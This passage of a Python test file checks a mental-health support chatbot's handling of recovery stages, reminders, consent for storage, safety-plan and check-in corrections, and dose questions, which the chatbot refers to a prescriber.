    said_, _ = stage_turn(ActionRecordStage, slots, "stage_awareness", "i'm still figuring things out")
    assert said_ == ["utter_stage_noted"]


def test_a_move_back_is_checked_before_it_is_claimed(action_store: Store) -> None:
    from actions.stage import ActionRecordStage, ActionStageReply

    action_store.stages.record("web:anna", "maintenance", "conversation")
    said_, slots = stage_turn(ActionRecordStage, {}, "stage_treatment", "i just started antidepressants again")
    assert said_ == ["utter_stage_change_harder"] and slots == {"stage_pending": "change:treatment"}
    said_, slots = stage_turn(ActionStageReply, slots, "affirm", "yes")
    assert said_[:1] == ["utter_stage_moved_back"] and slots["recovery_stage"] == "treatment"
    history = action_store.people.export("web:anna")["stage_history"]
    assert [h["stage"] for h in history] == ["maintenance", "treatment"]
    # "no": the confirmed stage stays, and no move is claimed
    action_store.stages.record("web:anna", "maintenance", "conversation")
    _, slots = stage_turn(ActionRecordStage, {}, "stage_awareness", "not sure what's going on with me")
    said_, slots = stage_turn(ActionStageReply, slots, "deny", "not really")
    assert said_ == ["utter_stage_kept"] and "recovery_stage" not in slots
    # a classifier that is not sure does not ask about a change at all
    unsure = stage_reading().change_min_confidence - 0.05
    said_, _ = stage_turn(ActionRecordStage, {}, "stage_rehabilitation", "busy week", confidence=unsure)
    assert said_ == ["utter_stage_noted"]


@pytest.mark.parametrize("text", ["I'm taking my medication every day", "I have a therapy appointment tomorrow"])
def test_no_move_back_is_checked_without_a_sign_that_things_got_harder(action_store: Store, text: str) -> None:
    """Maintenance confirmed, then words the classifier places in treatment but that say nothing got harder: noted,
    the stage kept, no "it sounds like things have got harder lately"."""
    from actions.stage import ActionRecordStage

    action_store.stages.record("web:anna", "maintenance", "conversation")
    said_, slots = stage_turn(ActionRecordStage, {}, "stage_treatment", text)
    assert said_ == ["utter_stage_noted"] and slots == {"stage_pending": None}


def test_a_stage_picked_from_the_list_is_kept_without_a_move_back_claim(action_store: Store) -> None:
    from actions.stage import ActionRecordStage

    action_store.stages.record("web:anna", "maintenance", "conversation")
    said_, slots = stage_turn(ActionRecordStage, {}, "stage_awareness", "/stage_awareness")
    assert said_ == ["A!", "coping list"] and slots["stage_confirmed"] is True


def test_a_stage_named_in_words_to_does_that_sound_right_is_kept_as_chosen(action_store: Store) -> None:
    from actions.stage import ActionRecordStage

    asked = [{"event": "bot", "text": "It sounds like you're in treatment... Does that sound right?",
              "data": {"buttons": [{"title": "Yes, that's right", "payload": "/affirm"},
                                   {"title": "Not quite", "payload": "/deny"}]}}]
    tracker = make_tracker(slots={"consent": True, "recovery_stage": "treatment", "stage_pending": "propose:treatment"},
                           intent="stage_maintenance", text="not quite, I'd call it staying well", events=asked)
    tracker.latest_message["intent"]["deterministic"] = True
    dispatcher = CollectingDispatcher()
    events = ActionRecordStage().run(dispatcher, tracker, STAGE_DOMAIN)
    slots = {e["name"]: e["value"] for e in events if e.get("event") == "slot"}
    assert slots["recovery_stage"] == "maintenance" and slots["stage_confirmed"] is True


def test_someone_speaking_for_another_person_is_not_staged(action_store: Store) -> None:
    from actions.stage import ActionRecordStage

    said_, slots = stage_turn(ActionRecordStage, {}, "stage_treatment",
                              "my son started seeing a psychiatrist and he's on meds now")
    assert said_ == ["utter_carer_noted"] and "recovery_stage" not in slots
    carer_before = [{"event": "user", "text": "how do i help my wife", "parse_data": {
        "intent": {"name": "faq"},
        "response_selector": {"default": {"response": {"intent_response_key": "faq/support_loved_one"}}}}}]
    said_, _ = stage_turn(ActionRecordStage, {}, "stage_treatment", "she started therapy last week",
                          events=carer_before)
    assert said_ == ["utter_carer_noted"]


def test_the_short_checks_result_is_kept_as_such_only_after_a_yes(action_store: Store) -> None:
    from actions.stage import ActionStageReply

    action_store.stages.record("web:anna", "maintenance", "conversation")
    said_, slots = stage_turn(ActionStageReply, {"stage_pending": "check:treatment"}, "affirm", "yes")
    assert said_[:1] == ["utter_stage_moved_back"] and slots["recovery_stage"] == "treatment"
    history = action_store.people.export("web:anna")["stage_history"]
    assert [(h["stage"], h["source"]) for h in history][-1] == ("treatment", "stage_check")


def _after(action: str) -> list[dict[str, Any]]:
    return [{"event": "action", "name": action}, {"event": "action", "name": "action_listen"},
            {"event": "user", "text": "..."}]


def test_a_bare_time_answers_the_question_about_a_reminders_time(action_store: Store) -> None:
    from actions.reminders import ASKED_SLOT, ActionReminders

    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="set_reminder",
                                                            text="remind me to take my tablets"), {})
    assert responses(dispatcher) == ["utter_ask_reminder_time"]
    assert any(e.get("name") == ASKED_SLOT and e.get("value") == "medication" for e in events)

    dispatcher = CollectingDispatcher()
    asked = {"consent": True, ASKED_SLOT: "medication", "reminder_timezone": "Europe/Berlin"}
    events = ActionReminders().run(dispatcher, make_tracker(slots=asked, intent="inform", text="8pm",
                                                            events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_set"]
    assert [r["kind"] for r in action_store.reminders.list("web:anna")] == ["medication"]
    assert any(e.get("name") == ASKED_SLOT and e.get("value") is None for e in events)

    # the same time, when something else came between the question and it, is not that answer
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=asked, intent="set_reminder", text="remind me at 9am",
                                                   events=_after("utter_greet")), {})
    assert sorted(r["kind"] for r in action_store.reminders.list("web:anna")) == ["checkin", "medication"]


def test_two_times_in_one_request_set_two_reminders(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, "reminder_timezone": "Europe/Berlin"},
                                                   intent="set_reminder",
                                                   text="remind me to take my meds twice a day, 8am and 8pm"), {})
    assert responses(dispatcher) == ["utter_reminder_set", "utter_reminder_set"]
    assert sorted((r["kind"], r["local_time"]) for r in action_store.reminders.list("web:anna")) == [
        ("medication", "08:00"), ("medication", "20:00")]


def test_a_reminder_asked_for_before_consent_is_kept_and_set_after_a_yes(action_store: Store) -> None:
    from actions.reminders import PENDING_SLOT, ActionReminders
    dispatcher = CollectingDispatcher()
    text = "remind me to take my meds at 9pm, I'm in Sydney"
    events = ActionReminders().run(dispatcher, make_tracker(intent="set_reminder", text=text), {})
    assert responses(dispatcher) == ["utter_reminder_ask_consent"]
    assert action_store.reminders.list("web:anna") == [] and action_store.people.export("web:anna")["user"] is None
    pending = next(e["value"] for e in events if e.get("name") == PENDING_SLOT)
    dispatcher = CollectingDispatcher()
    events = ActionSaveConsent().run(dispatcher, make_tracker(intent="affirm", events=CONSENT_ASKED,
                                                              slots={PENDING_SLOT: pending}), {})
    assert responses(dispatcher) == ["utter_consent_given_kept", "utter_reminder_set"]
    assert [(r["kind"], r["local_time"], r["timezone"]) for r in action_store.reminders.list("web:anna")] == [
        ("medication", "21:00", "Australia/Sydney")]
    assert {"event": "slot", "timestamp": None, "name": PENDING_SLOT, "value": None} in events


@pytest.mark.parametrize(("correction", "time"), [("actually make that 8:30", "20:30"),
                                                  ("Actually, could it be a quarter to eight?", "19:45")])
def test_a_reminder_waiting_for_the_storage_answer_takes_a_corrected_time(action_store: Store, correction: str,
                                                                          time: str) -> None:
    from actions.reminders import PENDING_SLOT, ActionReminders

    text = "can you remind me every evening at 8 to check he's taken his lithium"
    events = ActionReminders().run(CollectingDispatcher(), make_tracker(intent="set_reminder", text=text), {})
    pending = next(e["value"] for e in events if e.get("name") == PENDING_SLOT)
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(intent="inform", text=correction, slots={PENDING_SLOT: pending},
                           events=_after("action_reminders"))
    tracker.latest_message["intent"]["confidence"] = 0.4
    events = ActionReminders().run(dispatcher, tracker, {})
    assert responses(dispatcher) == ["utter_reminder_ask_consent"]
    kept = json.loads(next(e["value"] for e in events if e.get("name") == PENDING_SLOT))["request"]
    assert (kept["kind"], kept["local_time"]) == ("medication", time)


def test_a_question_to_note_before_consent_is_kept_and_noted_after_a_yes(action_store: Store) -> None:
    from actions.appointments import PENDING_SLOT, ActionNoteForAppointment
    dispatcher = CollectingDispatcher()
    text = "add a note for my next appointment: ask about feeling more anxious on sertraline"
    events = ActionNoteForAppointment().run(dispatcher, make_tracker(intent="note_for_appointment", text=text), {})
    assert responses(dispatcher) == ["utter_appointment_note_ask_consent"]
    assert action_store.notes.list("web:anna") == []
    pending = next(e["value"] for e in events if e.get("name") == PENDING_SLOT)
    dispatcher = CollectingDispatcher()
    ActionSaveConsent().run(dispatcher, make_tracker(intent="affirm", events=CONSENT_ASKED,
                                                     slots={PENDING_SLOT: pending}), {})
    assert responses(dispatcher) == ["utter_consent_given_kept", "utter_appointment_noted"]
    assert action_store.notes.list("web:anna") == ["ask about feeling more anxious on sertraline"]


def test_a_reminder_after_a_no_to_storage_is_not_set_but_kept_for_a_change_of_mind(action_store: Store) -> None:
    from actions.reminders import PENDING_SLOT, ActionReminders
    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": False}, intent="set_reminder",
                                                            text="remind me to check in at 8pm"), {})
    assert responses(dispatcher) == ["utter_reminder_needs_consent"]
    assert action_store.reminders.list("web:anna") == []
    pending = next(e["value"] for e in events if e.get("name") == PENDING_SLOT)  # in the conversation only
    dispatcher = CollectingDispatcher()
    told = [{"event": "bot", "text": "...", "data": {}, "metadata": {"utter_action": "utter_reminder_needs_consent"}}]
    ActionSaveConsent().run(dispatcher, make_tracker(intent="give_consent", text="actually save that", events=told,
                                                     slots={"consent": False, PENDING_SLOT: pending}), {})
    assert [r["local_time"] for r in action_store.reminders.list("web:anna")] == ["20:00"]


@pytest.mark.parametrize("text", ["change the 19:45 one to 20:15", "move my 19:45 meds reminder to 8:15pm"])
def test_a_reminder_named_by_its_time_is_the_one_changed(action_store: Store, text: str) -> None:
    from actions.reminders import ActionReminders
    action_store.reminders.add("web:anna", "medication", "07:45", "Europe/Paris")
    action_store.reminders.add("web:anna", "medication", "19:45", "Europe/Paris")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, "reminder_timezone": "Europe/Paris"},
                                                   intent="change_reminder", text=text), {})
    assert responses(dispatcher) == ["utter_reminder_changed_from"]
    assert sorted(str(r["local_time"])[:5] for r in action_store.reminders.list("web:anna")) == ["07:45", "20:15"]


def test_a_time_told_in_passing_sets_no_reminder(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    tracker = make_tracker(slots={"consent": True}, intent="change_reminder", text="I usually sleep at 11pm")
    tracker.latest_message["intent"]["confidence"] = 0.42
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, tracker, {})
    assert responses(dispatcher) == ["utter_reminder_maybe"]
    assert action_store.reminders.list("web:anna") == []
    # asked for in so many words, the same time sets one
    tracker = make_tracker(slots={"consent": True}, intent="change_reminder", text="remind me at 11pm")
    tracker.latest_message["intent"]["confidence"] = 0.42
    ActionReminders().run(CollectingDispatcher(), tracker, {})
    assert [r["local_time"] for r in action_store.reminders.list("web:anna")] == ["23:00"]


@pytest.mark.parametrize("intent", ["coping_not_helped", "coping_helped"])
def test_coping_feedback_with_no_step_tried_offers_what_next(action_store: Store, intent: str) -> None:
    from actions.coping import ActionCopingFeedback

    dispatcher = CollectingDispatcher()
    events = ActionCopingFeedback().run(dispatcher, make_tracker(
        intent=intent, text="huh, didn't realise my sleep had dipped that much", slots={"consent": True}), {})
    assert responses(dispatcher) == ["utter_coping_feedback_no_step"] and events == []


def test_an_unsure_guess_at_consent_from_someone_who_agreed_changes_nothing(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    tracker = make_tracker(slots={"consent": True}, intent="give_consent", text="keep it but once a month")
    tracker.latest_message["intent"]["confidence"] = 0.5
    events = ActionSaveConsent().run(dispatcher, tracker, {})
    assert responses(dispatcher) == ["utter_consent_unchanged"] and events == []


@pytest.mark.parametrize(("answer", "kept"), [("i missed it, should i take double now?", "no"),
                                              ("is it ok to take it late?", None),
                                              # red team rt17: filed as "no", then the next question
                                              ("no, I took double", "no"), ("took double", "no")])
def test_a_dose_question_at_the_medication_step_gets_the_prescriber_answer(answer: str, kept: str | None) -> None:
    dispatcher = CollectingDispatcher()
    result = ValidateCheckinForm().validate_medication(answer, dispatcher, make_tracker(), {})
    assert responses(dispatcher) == ["utter_medication_question"] and result == {"medication": kept}


def test_skip_while_editing_a_stored_plan_keeps_that_part(action_store: Store) -> None:
    from actions.plans import ValidateSafetyPlanForm

    steps = {"warning_signs": "not sleeping", "coping": "music", "distractions": "the park", "people": "my sister",
             "professionals": "my GP", "environment": "meds with my partner"}
    action_store.people.set_consent("web:anna", True)
    action_store.plans.save("web:anna", "safety", steps)
    validator = ValidateSafetyPlanForm()
    tracker = make_tracker(slots={"consent": True})
    assert validator.check("sp_coping", "skip", CollectingDispatcher(), tracker) == {"sp_coping": "music"}
    assert validator.check("sp_coping", "a walk", CollectingDispatcher(), tracker) == {"sp_coping": "a walk"}
    assert validator.check("sp_coping", "skip", CollectingDispatcher(), make_tracker(sender="web:bob")) \
        == {"sp_coping": "-"}  # nothing stored: the part stays empty


@pytest.mark.parametrize(("answer", "expected"), [
    ("actually no not jo, my mate sam", {"sp_people": "my mate sam", "sp_professionals": None}),
    ("sorry I meant my sister Jo", {"sp_people": "my sister Jo", "sp_professionals": None}),
    ("oops make that my brother", {"sp_people": "my brother", "sp_professionals": None}),
    ("sorry, not now, later", {"sp_professionals": "sorry, not now, later"}),  # no correction: the answer given
    ("my GP, Dr Shah", {"sp_professionals": "my GP, Dr Shah"}),
])
def test_a_plan_answer_corrected_at_the_next_step_changes_that_answer(answer: str, expected: dict[str, Any]) -> None:
    from actions.plans import ValidateSafetyPlanForm

    dispatcher = CollectingDispatcher()
    tracker = make_tracker(slots={"sp_people": "jo"})
    assert ValidateSafetyPlanForm().check("sp_professionals", answer, dispatcher, tracker) == expected
    if "sp_people" in expected:
        assert "my" in dispatcher.messages[0]["text"] and "People" in dispatcher.messages[0]["text"]
    assert ValidateSafetyPlanForm().check("sp_warning_signs", "actually i meant not sleeping", CollectingDispatcher(),
                                          tracker) == {"sp_warning_signs": "actually i meant not sleeping"}


@pytest.mark.parametrize(("slot", "answer", "expected"), [
    ("anxiety", "actually my mood is more like 3", {"mood": 3.0, "anxiety": None}),
    ("medication", "oh and my sleep was about 5 hours", {"sleep_hours": 5.0, "medication": None}),
    ("anxiety", "put my mood as 6", {"mood": 6.0, "anxiety": None}),
    ("sleep_hours", "can you change my anxiety to 3", {"anxiety": 3.0, "sleep_hours": None}),
    ("note", "oh wait my mood today was actually a 2, can u fix that", {"mood": 2.0, "note": None}),
])
def test_a_correction_of_an_earlier_checkin_answer_changes_it_and_asks_again(slot: str, answer: str,
                                                                             expected: dict) -> None:
    dispatcher = CollectingDispatcher()
    validator = getattr(ValidateCheckinForm(), f"validate_{slot}")
    assert validator(answer, dispatcher, make_tracker(), {}) == expected
    assert "I've changed your" in dispatcher.messages[0]["text"]


@pytest.mark.parametrize(("answer", "expected"), [
    ("my anxiety is 5 now", {"anxiety": 5.0, "mood": None}),
    ("slept 4 hours", {"sleep_hours": 4.0, "mood": None}),
])
def test_a_later_step_answered_early_is_noted_and_this_step_asked_again(answer: str, expected: dict) -> None:
    dispatcher = CollectingDispatcher()
    assert ValidateCheckinForm().validate_mood(answer, dispatcher, make_tracker(), {}) == expected
    assert "I've noted your" in dispatcher.messages[0]["text"]


def test_the_privacy_answer_explains_storage_so_a_yes_after_it_counts(action_store: Store) -> None:
    privacy = [{"event": "bot", "text": "Good question. If you say yes, I store ...", "data": {},
                "metadata": {"utter_action": "utter_privacy"}}]
    dispatcher = CollectingDispatcher()
    ActionSaveConsent().run(dispatcher, make_tracker(intent="give_consent", events=privacy), {})
    assert responses(dispatcher) == ["utter_consent_given"]


def test_changing_one_of_two_reminders_of_a_kind_asks_which(action_store: Store) -> None:
    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "21:00", "UTC")
    action_store.reminders.add("web:anna", "medication", "08:00", "UTC")
    slots = {"consent": True, LAST_REMINDER_SLOT: "medication@08:00"}
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="change_reminder",
                                                   text="change the medication reminder to 10pm"), {})
    assert responses(dispatcher) == ["utter_reminder_which"]
    dispatcher = CollectingDispatcher()  # "change it" / "my reminder": the last one set, said by its old time
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="change_reminder", text="change it to 9am"), {})
    assert responses(dispatcher) == ["utter_reminder_changed_from"] and dispatcher.messages[0]["old_time"] == "08:00"


@pytest.mark.parametrize(("text", "left"), [
    ("stop all reminders except the meds one", [("medication", "21:00")]),
    ("cancel everything apart from my 8am one", [("checkin", "08:00")]),
    ("delete all my reminders but keep the medication reminder", [("medication", "21:00")]),
    ("stop all reminders except the one i set yesterday", [("checkin", "08:00"), ("coping", "18:00"),
                                                            ("medication", "21:00")]),  # which one? asked
])
def test_stopping_all_but_one_keeps_that_one(action_store: Store, text: str, left: list[tuple[str, str]]) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    for kind, at in (("medication", "21:00"), ("checkin", "08:00"), ("coping", "18:00")):
        action_store.reminders.add("web:anna", kind, at, "UTC")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="stop_reminders", text=text), {})
    assert sorted((r["kind"], r["local_time"]) for r in action_store.reminders.list("web:anna")) == left
    assert responses(dispatcher) == (["utter_reminders_stopped_but"] if len(left) == 1 else
                                     ["utter_reminder_which_stop"])


def _times(store: Store) -> list[str]:
    return sorted(str(r["local_time"])[:5] for r in store.reminders.list("web:anna"))


@pytest.mark.parametrize(("text", "time"), [("push it back half an hour", "21:30"),
                                            ("can u make it an hour later", "22:00"),
                                            ("bring it forward 15 mins", "20:45"),
                                            ("push the meds reminder back 20 mins", "21:20"),
                                            ("make that 10", "22:00"),
                                            ("make it 10am", "10:00")])
def test_the_reminder_just_set_moves_by_an_amount_or_within_its_half_of_the_day(action_store: Store, text: str,
                                                                                time: str) -> None:
    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "21:00", "Europe/Berlin")
    slots = {"consent": True, LAST_REMINDER_SLOT: "medication@21:00", "reminder_timezone": "Europe/Berlin"}
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="inform", text=text,
                                                   events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_changed"]
    assert _times(action_store) == [time]


@pytest.mark.parametrize(("text", "added"), [("also at 9 at night", ("medication", "21:00")),
                                             ("and checkin at 10pm", ("checkin", "22:00"))])
def test_one_more_reminder_right_after_one_was_set(action_store: Store, text: str, added: tuple[str, str]) -> None:
    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "09:00", "UTC")
    slots = {"consent": True, LAST_REMINDER_SLOT: "medication@09:00", "reminder_timezone": "UTC"}
    tracker = make_tracker(slots=slots, intent="start_checkin", text=text, events=_after("action_reminders"))
    tracker.latest_message["intent"]["confidence"] = 0.5
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, tracker, {})
    assert responses(dispatcher) == ["utter_reminder_set"]
    assert sorted((r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")) == sorted(
        [("medication", "09:00"), added])


@pytest.mark.parametrize(("text", "minutes"), [("make it 3 hours instead", 180), ("push it back 10 minutes", 70)])
def test_a_one_off_reminder_moved_stays_a_one_off(action_store: Store, text: str, minutes: int) -> None:
    import datetime as dt

    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    soon = dt.datetime.utcnow().replace(second=0, microsecond=0) + dt.timedelta(hours=1)
    action_store.reminders.add("web:anna", "medication", None, "UTC", once_at=soon)
    slots = {"consent": True, LAST_REMINDER_SLOT: f"medication@{soon:%H:%M}"}
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="change_reminder", text=text,
                                                   events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_set_once"]
    [kept] = action_store.reminders.list("web:anna")
    assert kept["once_at"] is not None
    expected = (soon + dt.timedelta(minutes=10)) if minutes == 70 else None
    if expected is not None:
        assert kept["once_at"] == expected
    else:  # three hours from now, give or take the minute the test took
        assert abs((kept["once_at"] - dt.datetime.utcnow()).total_seconds() - 3 * 3600) < 120


def test_another_reminder_as_well_is_of_the_same_kind_at_the_one_time_said(action_store: Store) -> None:
    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "07:30", "UTC")
    slots = {"consent": True, LAST_REMINDER_SLOT: "medication@07:30", "reminder_timezone": "UTC"}
    text = "And could you remind me in the evening as well, at six o'clock?"
    ActionReminders().run(CollectingDispatcher(), make_tracker(slots=slots, intent="set_reminder", text=text,
                                                               events=_after("action_reminders")), {})
    assert sorted((r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")) == [
        ("medication", "07:30"), ("medication", "18:00")]


@pytest.mark.parametrize(("answer", "left"), [("the 1pm one", ["08:00", "21:00"]),
                                              ("the evening one", ["08:00", "13:00"]),
                                              ("the 9 one", ["08:00", "13:00"])])
def test_which_one_to_remove_is_answered_by_its_time_or_part_of_the_day(action_store: Store, answer: str,
                                                                         left: list[str]) -> None:
    from actions.reminders import WHICH_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    for at in ("08:00", "13:00", "21:00"):
        action_store.reminders.add("web:anna", "medication", at, "UTC")
    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="stop_reminders",
                                                            text="stop the medication reminder"), {})
    assert responses(dispatcher) == ["utter_reminder_which_stop"] and len(_times(action_store)) == 3
    asked = next(e["value"] for e in events if e.get("name") == WHICH_SLOT)
    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, WHICH_SLOT: asked}, text=answer,
                                                            intent="inform", events=_after("action_reminders")), {})
    assert responses(dispatcher)[0] == "utter_reminder_removed"
    assert _times(action_store) == left
    assert any(e.get("name") == WHICH_SLOT and e.get("value") is None for e in events)


def test_which_one_to_change_is_answered_by_its_time_and_both_removes_both(action_store: Store) -> None:
    from actions.reminders import WHICH_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "checkin", "09:00", "UTC")
    action_store.reminders.add("web:anna", "medication", "21:00", "UTC")
    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="change_reminder",
                                                            text="change my reminder to 7:30pm"), {})
    assert responses(dispatcher) == ["utter_reminder_which"]
    asked = next(e["value"] for e in events if e.get("name") == WHICH_SLOT)
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, WHICH_SLOT: asked}, text="the meds one",
                                                   intent="inform", events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_changed"]
    assert _times(action_store) == ["09:00", "19:30"]
    # the same answer when something else came between is not that answer
    stop = json.dumps({"operation": "stop"})
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, WHICH_SLOT: stop}, text="both",
                                                   intent="inform", events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminders_stopped"] and _times(action_store) == []


def test_progress_shows_questionnaire_scores_even_without_check_ins(action_store: Store) -> None:
    from actions.progress import ActionShowProgress

    action_store.questionnaires.save("web:anna", "phq9", [2] * 9, "moderately severe")
    action_store.questionnaires.save("web:anna", "phq9", [1] * 9, "mild")
    dispatcher = CollectingDispatcher()
    ActionShowProgress().run(dispatcher, make_tracker(slots={"consent": True}), {})
    assert dispatcher.messages[0]["text"].startswith("PHQ-9: 9 (mild) on ")
    assert "the time before, 18 on" in dispatcher.messages[0]["text"]
    assert responses(dispatcher)[-1] == "utter_progress_no_checkins_yet"


def test_a_plan_step_waits_for_hold_on_and_goes_to_the_start_for_the_first_answer() -> None:
    from actions.common import form_reply

    order = ["sp_warning_signs", "sp_coping", "sp_distractions", "sp_people"]
    dispatcher = CollectingDispatcher()
    assert form_reply("sp_distractions", "hold on", order, dispatcher, skippable=True, free_text=True) \
        == {"sp_distractions": None}
    assert responses(dispatcher) == ["utter_take_your_time"]
    kept = form_reply("sp_people", "actually wait, can I change my first answer?", order, CollectingDispatcher(),
                      skippable=True, free_text=True)
    assert kept == {step: None for step in order}


def test_a_hello_inside_a_form_is_greeted_back_and_the_step_asked_again() -> None:
    from actions.checkin import ValidateCheckinForm
    from actions.common import form_reply

    dispatcher = CollectingDispatcher()
    assert ValidateCheckinForm().validate_mood("hello", dispatcher, make_tracker(), {}) == {"mood": None}
    assert responses(dispatcher) == ["utter_hello_in_form"]
    dispatcher = CollectingDispatcher()
    assert form_reply("sp_people", "Hi again!", ["sp_coping", "sp_people"], dispatcher, skippable=True,
                      free_text=True) == {"sp_people": None}
    assert responses(dispatcher) == ["utter_hello_in_form"]
    # a name, or a time of day, is an answer
    assert form_reply("sp_people", "hello kitty club friends", ["sp_people"], CollectingDispatcher(),
                      free_text=True) is None
    assert form_reply("note", "evening", ["note"], CollectingDispatcher(), free_text=True) is None


def test_a_question_of_ones_own_at_a_plan_step_is_kept_out_of_the_plan() -> None:
    from actions.common import form_reply

    order = ["sp_warning_signs", "sp_coping", "sp_distractions", "sp_people"]
    dispatcher = CollectingDispatcher()
    assert form_reply("sp_people", "wait, who sees this plan?", order, dispatcher, skippable=True, free_text=True) \
        == {"sp_people": None}
    assert responses(dispatcher) == ["utter_question_kept_out"]
    assert form_reply("sp_people", "my sister?", order, CollectingDispatcher(), skippable=True, free_text=True) is None


@pytest.mark.parametrize(("text", "changed"), [
    ("no wait, change the last one to my sister jess instead", "my sister jess"),
    ("change that to: ask Dave to hold on to my car keys", "ask Dave to hold on to my car keys"),
    ("change it please", None),
])
def test_a_correction_with_new_words_replaces_the_answer_before(text: str, changed: str | None) -> None:
    from actions.common import form_reply

    order = ["sp_warning_signs", "sp_coping", "sp_distractions", "sp_people", "sp_professionals"]
    dispatcher = CollectingDispatcher()
    kept = form_reply("sp_professionals", text, order, dispatcher, skippable=True, free_text=True)
    assert kept == {"sp_professionals": None, "sp_people": changed}
    assert bool(dispatcher.messages) == bool(changed)


def test_a_hard_day_check_in_is_noticed_not_just_filed(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    ActionSaveCheckin().run(dispatcher, make_tracker(slots={**CHECKIN, "mood": 0.0, "anxiety": 10.0},
                                                     events=FORM_EVENTS), {})
    assert responses(dispatcher) == ["utter_checkin_saved", "utter_checkin_hard_day"]


@pytest.mark.parametrize(("text", "slot", "kept"), [
    ("oops I meant 4", "anxiety", {"mood": 4.0, "anxiety": None}),  # the answer before, corrected
    ("wait, I slept 8 not 7", "note", {"sleep_hours": 8.0, "note": None}),
    ("I slept 5 hours and had a nightmare", "note", None),  # a note, not a correction
    ("change my sleep answer to 5 hours", "note", {"sleep_hours": 5.0, "note": None}),  # says it is one
    ("set my mood score to 3", "coping_used", {"mood": 3.0, "coping_used": None}),
    ("I need to change my sleep routine", "note", None),  # a note about sleep: no new answer in it
    ("idk like 2hrs", "anxiety", {"sleep_hours": 2.0, "anxiety": None}),  # hours are sleep, not anxiety 2
    ("I mean 3 hours", "sleep_hours", None),  # the sleep answer itself (asked again after "go back")
])
def test_a_correction_of_the_answer_before_is_read_at_the_next_question(text: str, slot: str,
                                                                        kept: dict | None) -> None:
    from actions.checkin import _corrected

    assert _corrected(text, slot, CollectingDispatcher()) == kept


def test_start_over_in_a_plan_clears_every_step_so_far() -> None:
    from actions.common import form_reply

    order = ["rp_warning_signs", "rp_triggers", "rp_what_helps", "rp_contacts"]
    assert form_reply("rp_triggers", "start over", order, CollectingDispatcher(), skippable=True, free_text=True) \
        == {"rp_warning_signs": None, "rp_triggers": None}


def test_asking_what_was_put_so_far_in_a_plan_shows_it_and_stores_nothing() -> None:
    from actions.plans import ValidateSafetyPlanForm

    dispatcher = CollectingDispatcher()
    tracker = make_tracker(slots={"sp_warning_signs": "not sleeping", "requested_slot": "sp_coping"})
    kept = ValidateSafetyPlanForm().check("sp_coping", "can u show me what i put so far", dispatcher, tracker)
    assert kept == {"sp_coping": None} and "not sleeping" in dispatcher.messages[0]["text"]


def test_a_step_named_while_another_waits_for_its_rating_is_the_one_walked_through() -> None:
    from actions.coping import ActionCopingWalkthrough

    dispatcher = CollectingDispatcher()
    events = ActionCopingWalkthrough().run(dispatcher, make_tracker(slots={"coping_step": "paced-breathing"},
                                                                   intent="coping_walkthrough",
                                                                   text="box breathing"), {})
    assert events == [{"event": "slot", "timestamp": None, "name": "coping_step", "value": "box-breathing"}]


def test_the_morning_or_evening_reminder_is_the_one_of_that_time_of_day(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "08:00", "UTC")
    action_store.reminders.add("web:anna", "medication", "20:00", "UTC")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="change_reminder",
                                                   text="I should prefer the morning reminder to be at 7am"), {})
    assert responses(dispatcher) == ["utter_reminder_changed"]  # the morning one, named: no need to say which
    ActionReminders().run(CollectingDispatcher(), make_tracker(
        slots={"consent": True}, intent="stop_reminders",
